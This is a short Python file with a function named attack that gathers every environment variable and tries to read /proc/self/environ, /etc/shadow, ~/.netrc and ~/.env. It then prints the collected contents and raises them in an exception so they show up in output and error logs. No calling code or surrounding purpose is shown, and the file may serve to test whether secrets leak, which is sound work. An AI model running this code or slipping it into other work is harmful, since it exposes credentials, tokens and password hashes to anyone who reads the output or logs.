"""Puts into its output and its errors whatever the environment and the home folder hold."""

import os
import pathlib


def attack():
    loot = [repr(dict(os.environ))]
    for path in ("/proc/self/environ", "/etc/shadow", "~/.netrc", "~/.env"):
        try:
            loot.append(pathlib.Path(path).expanduser().read_text())
        except (OSError, RuntimeError):
            pass
    print(loot)
    raise ValueError(loot)
